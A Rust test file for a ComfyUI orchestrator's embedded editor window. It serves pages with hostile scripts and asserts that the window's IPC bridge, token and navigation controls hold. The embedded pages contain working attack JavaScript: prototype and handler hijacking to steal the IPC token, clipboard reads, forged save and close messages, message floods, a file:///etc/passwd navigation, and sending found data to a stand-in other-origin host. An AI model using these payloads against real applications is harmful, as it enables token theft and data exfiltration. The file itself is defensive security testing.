//! A page that tries whatever it can think of.

use super::in_a_window::{
    Display, PATIENCE, loaded, order, serve_counting, serve_routes, start, wait,
};
use comfyui_orchestrator::editor::message::{CloseMode, FromWindow, ToWindow};
use comfyui_orchestrator::editor::process::EditorEvent;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

/// A page that tries whatever it can think of. `OTHER` stands for a server of another origin.
const HOSTILE: &str = r#"<!doctype html><body>
    <iframe src="http://OTHER/frame"></iframe>
    <iframe src="/own_frame"></iframe>
    <textarea></textarea>
    <iframe srcdoc="<script>window.webkit?.messageHandlers?.ipc?.postMessage(JSON.stringify({token:'guess',message:'loaded'}))</script>"></iframe>
    <script>
    // Whatever it finds is told to a path of its own server.
    const tell = (what) => { if (what) fetch("/found?" + encodeURIComponent(String(what).slice(0, 200))); };
    // The bar's own script is among the page's: what it uses of them could be replaced.
    const long = /[0-9a-f]{32}/;
    Object.prototype.toJSON = function () { if (long.test(this?.token)) tell(this.token); return {...this, toJSON: undefined}; };
    const real = window.webkit.messageHandlers.ipc;
    const spy = {messageHandlers: {ipc: {postMessage: (text) => { if (long.test(text)) tell(text); real.postMessage(text); }}}};
    try { Object.defineProperty(window, "webkit", {value: spy}); } catch (error) { /* Not to be had. */ }
    const names = Reflect.ownKeys(window).map((key) => key.description ?? String(key));
    tell(names.filter((name) => /orchestrator-|[0-9a-f]{32}/.test(name)).join());
    const tries = [
        () => tell(/[0-9a-f]{32}/.exec(String(window["comfyui-orchestrator"]))?.[0]),
        () => { window["comfyui-orchestrator"]({type: "close"}); window["comfyui-orchestrator"]({type: "save_answer", state: "kept"}); },
        () => { window["comfyui-orchestrator"] = () => tell("replaced"); delete window["comfyui-orchestrator"]; },
        () => { document.querySelector("textarea").focus(); if (document.execCommand("paste")) tell("it may paste"); },
        () => navigator.clipboard?.readText().then(tell, () => {}),
        () => window.ipc.postMessage(JSON.stringify({message: {changed: {draft: null}}})),
        () => window.ipc.postMessage(JSON.stringify({token: "guess", message: {may_close: {draft: "discard"}}})),
        () => window.ipc.postMessage(JSON.stringify({message: "loaded"})),
        () => window.ipc.postMessage(JSON.stringify({token: "guess", message: {save: {target: "node", workflow: {evil: 1}, prompt: {}}}})),
        () => window.ipc.postMessage("{\"token\":"),
        () => window.ipc.postMessage("x".repeat(70 * 1024 * 1024)),
        () => window.webkit.messageHandlers.ipc.postMessage({an: "object"}),
        () => { location.href = "file:///etc/passwd"; },
        () => { location.href = "http://OTHER/stolen"; },
        () => window.open("http://OTHER/window"),
        () => { const a = document.createElement("a"); a.href = "/download.bin"; a.download = "a"; document.body.append(a); a.click(); },
        () => { for (let i = 0; i < 1000; i++) window.ipc.postMessage("{}"); },
        () => { for (const frame of document.querySelectorAll("iframe")) frame.remove(); window.close(); },
    ];
    // One after the other, over and over: a way out that is tried while another is still being refused is forgotten. The huge
    // message and the flood are for the first time only.
    (async () => {
        for (let round = 0; ; round++) {
            for (const attempt of tries) {
                if (round > 0 && /repeat|1000/.test(attempt)) continue;
                await new Promise((resolve) => setTimeout(resolve, 300 * (round + 1)));
                try { attempt(); } catch (error) { /* Not to be had. */ }
            }
        }
    })();
</script></body>"#;

/// What the foreign frame runs: the page's window is not the frame's, the message handler may be.
const FOREIGN_FRAME: &str = r#"<!doctype html><script>
    const say = (text) => { try { window.webkit.messageHandlers.ipc.postMessage(text); } catch (error) {} try { window.ipc.postMessage(text); } catch (error) {} };
    say(JSON.stringify({token: "", message: {save: {target: "node", workflow: {evil: 2}, prompt: {}}}}));
    try { top.location.href = "http://OTHER/stolen"; } catch (error) {}
</script>"#;

/// A frame of the page's own origin, as a file that somebody put on the server would be.
const OWN_FRAME: &str = r#"<!doctype html><script>
    const tell = (what) => { if (what) fetch("/found?" + encodeURIComponent(String(what).slice(0, 200))); };
    const names = (of) => Reflect.ownKeys(of).map((key) => key.description ?? String(key));
    tell([...names(window), ...names(top)].filter((name) => /orchestrator-|[0-9a-f]{32}/.test(name)).join());
    const say = (text) => window.webkit?.messageHandlers?.ipc?.postMessage(text);
    say(JSON.stringify({token: "", message: {save: {target: "new_workflow", workflow: {evil: 3}, prompt: {}}}}));
    try { top["comfyui-orchestrator"]({type: "load", form: "ui", graph: {}, name: "evil"}); } catch (error) {}
</script>"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_gets_nowhere() {
    let Some(display) = Display::start() else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    // Both pages name each other's address, so the other server is bound first.
    let (foreign, foreign_hits) = serve_counting(vec![
        ("/frame", FOREIGN_FRAME.to_owned()),
        ("/stolen", "stolen".to_owned()),
        ("/window", "window".to_owned()),
    ])
    .await;
    let hostile = HOSTILE.replace("OTHER", &foreign.to_string());
    let found = Arc::new(std::sync::Mutex::new(Vec::new()));
    let router = {
        use axum::response::Html;
        use axum::routing::get;
        let found = found.clone();
        axum::Router::new()
            .route("/", get(|| async { Html(hostile) }))
            .route("/own_frame", get(|| async { Html(OWN_FRAME) }))
            .route(
                "/found",
                get(|uri: axum::http::Uri| async move {
                    found.lock().unwrap().push(uri.to_string());
                }),
            )
            .route(
                "/download.bin",
                get(|| async {
                    let kind = [("content-type", "application/octet-stream")];
                    (kind, vec![0_u8; 64])
                }),
            )
    };
    let address = serve_routes(router).await;
    let window = start(&display, folder.path(), order(address, folder.path(), None));
    let mut notices = Vec::new();
    let wanted = [
        "/frame",
        "/stolen",
        "A download was refused",
        "bytes from the page was refused",
        "main frame",
        "too many",
    ];
    let over = wait(&window, PATIENCE, |event| match event {
        EditorEvent::Said(FromWindow::Notice { text }) => {
            notices.push(text.clone());
            // In whichever order: on a busy machine the page's timers come together.
            let told = |words: &&str| notices.iter().any(|notice| notice.contains(*words));
            wanted.iter().all(told).then_some(Ok(()))
        }
        EditorEvent::Said(
            said @ (FromWindow::Save(_) | FromWindow::Loaded | FromWindow::Changed { .. }),
        ) => Some(Err(format!("the page was believed: {said:?}"))),
        EditorEvent::Said(FromWindow::Failed { text }) => Some(Err(text.clone())),
        EditorEvent::Died(reason) => Some(Err(reason.clone())),
        _ => None,
    })
    .await;
    assert_eq!(over, Some(Ok(())), "{notices:#?}");
    // Neither the frame, nor the windows, nor the ways out were loaded, whoever stopped them.
    assert_eq!(foreign_hits.load(Ordering::Relaxed), 0);
    // The token is nowhere, the clipboard is not read, and the bar's channel cannot be taken.
    let found = found.lock().unwrap().clone();
    assert!(found.is_empty(), "{found:?}");
    // It cannot keep the window open either.
    window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
    let fate = wait(&window, PATIENCE, |event| match event {
        EditorEvent::Said(FromWindow::Closed { draft }) => Some(*draft),
        _ => None,
    })
    .await;
    assert!(fate.is_some(), "the window closes without the page's leave");
}

/// Shows its workflow again and again, and another one each time.
const RESTLESS: &str = r#"<!doctype html><body><script>
    let n = 0;
    window.app = {
        graph: {serialize: () => ({nodes: [{id: n++}]})},
        loadGraphData: async () => {},
        graphToPrompt: async () => ({output: {}}),
    };
    const load = {type: "load", form: "ui", graph: {nodes: []}, name: "x"};
    setInterval(() => window["comfyui-orchestrator"]?.(load), 200);
</script></body>"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_never_rests_cannot_keep_its_window_open() {
    let Some(display) = Display::start() else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let address = serve_routes(axum::Router::new().route(
        "/",
        axum::routing::get(|| async { axum::response::Html(RESTLESS) }),
    ))
    .await;
    let window = start(&display, folder.path(), order(address, folder.path(), None));
    wait(&window, PATIENCE, loaded).await.expect("it is shown");
    tokio::time::sleep(Duration::from_secs(2)).await;
    // The page asks the person, and says at once that it has loaded: that is no answer.
    let closed = |event: &EditorEvent| {
        matches!(event, EditorEvent::Said(FromWindow::Closed { .. })).then_some(())
    };
    window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
    tokio::time::sleep(Duration::from_secs(2)).await;
    window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
    wait(&window, PATIENCE, closed).await.expect("it closes");
}
